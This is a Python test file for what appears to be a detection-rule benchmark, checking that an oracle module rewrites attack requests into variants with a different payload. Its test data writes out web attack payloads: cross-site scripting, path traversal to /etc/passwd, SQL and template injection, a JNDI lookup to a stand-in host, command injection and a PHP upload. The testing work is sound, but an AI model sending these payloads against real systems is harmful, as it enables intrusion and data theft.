"""The same attack with another payload: what the attacker chooses freely is chosen otherwise, all else stays."""

import re
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from urllib.parse import unquote_to_bytes

import pytest

from ruleforge.events.request import Request
from ruleforge.records.advisory import Advisory

ROOT = Path(__file__).resolve().parents[2]
FORM = (b"Content-Type", b"application/x-www-form-urlencoded")


@pytest.fixture(scope="module")
def oracle() -> Iterator[ModuleType]:
    sys.path.insert(0, str(ROOT / "bench"))
    try:
        import oracle.retold

        yield oracle
    finally:
        sys.path.remove(str(ROOT / "bench"))


UPLOAD = b'--pears\r\nContent-Disposition: form-data; name="a"; filename="stall.php"\r\n\r\nx\r\n--pears--\r\n'
# target → what is exchanged → what must stand in the new target, decoded
EXCHANGED: list[tuple[bytes, str, list[bytes]]] = [
    (b"/a?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "script_function", [b'">', b"<script>", b"confirm"]),
    (b"/a?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "script_element", [b'">', b"onerror="]),
    (b"/a?f=../../../etc/passwd", "other_file", [b"../../../etc/group"]),
    (b"/a?f=../../../etc/passwd", "deeper_path", [b"../../../../etc/passwd"]),
    (b"/a/..%2f..%2fetc%2fpasswd", "other_file", [b"/a/../../etc/group"]),
    (b"/a?id=1+and+sleep(6)", "other_numbers", [b"sleep(9)"]),
    (b"/a?id=1'+or+5%3d5--", "other_numbers", [b"1' or 83=83--"]),
    (b"/a?n={{7*7}}", "other_numbers", [b"{{83*97}}"]),
    (b"/a?u=https://wolf.example/x", "other_host", [b"https://wharf.example/x"]),
    (b"/a?u=https://trusted.fox.wolf.example/x", "other_host", [b"https://trusted.fox.wharf.example/x"]),
    (b"/a?u=${jndi:ldap://wolf.example/x}", "other_protocol", [b"${jndi:rmi://"]),
    (b"/a?h=x;cat+/cellar", "other_command", [b"x;head /cellar"]),
    (b"/a?id=1+union+select+user()", "other_question", [b"database()"]),
]


def retold(oracle: ModuleType, request: Request) -> dict[str, Request]:
    advisory = Advisory(id="CVE-2099-0001", sources=("x.yaml",))
    made: dict[str, Request] = {}
    for name, each in oracle.retold.retell(oracle.case.Case(request, advisory)):
        made.setdefault(name, each)
    return made


@pytest.mark.parametrize(("target", "name", "wanted"), EXCHANGED)
def test_the_core_is_exchanged_and_what_breaks_out_stays(
    oracle: ModuleType, target: bytes, name: str, wanted: list[bytes]
) -> None:
    made = retold(oracle, Request(method=b"GET", target=target, headers=((b"Host", b"shop.example"),)))[name]
    text = unquote_to_bytes(made.target.replace(b"+", b" "))
    assert [each for each in wanted if each not in text] == []
    assert made.target != target


def test_the_name_of_an_upload_changes_and_its_ending_stays(oracle: ModuleType) -> None:
    headers = ((b"Host", b"shop.example"), (b"Content-Type", b"multipart/form-data; boundary=pears"))
    made = retold(oracle, Request(method=b"POST", target=b"/up", headers=headers, body=UPLOAD))
    assert set(made) == {"other_file_name"}
    assert b'filename="harbour7.php"' in (made["other_file_name"].body or b"")


@pytest.mark.parametrize(
    "target",
    [
        b"/a?id=7&name=plums",
        b"/a?u=https://target.example/x",  # the target's own host
        b"/a?x=http://schemas.xmlsoap.org/soap",  # an identifier, never called
        b"/a/b/../../list",  # no folder of the system
        b"/a?q=1;select+id+from+t",  # a column, no command
    ],
)
def test_where_nothing_is_freely_chosen_nothing_is_made(oracle: ModuleType, target: bytes) -> None:
    assert retold(oracle, Request(method=b"GET", target=target, headers=((b"Host", b"target.example"),))) == {}


def test_every_exchange_is_tried_and_documented(oracle: ModuleType) -> None:
    assert {name for _, name, _ in EXCHANGED} | {"other_file_name"} == set(oracle.retold.RETOLD)
    page = (ROOT / "bench" / "oracle" / "README.md").read_text("utf-8")
    rows = dict(re.findall(r"^\| `payload: ([a-z0-9_]+)` \| (.+) \|$", page, re.MULTILINE))
    assert rows == {name: entry.valid for name, entry in oracle.retold.RETOLD.items()}
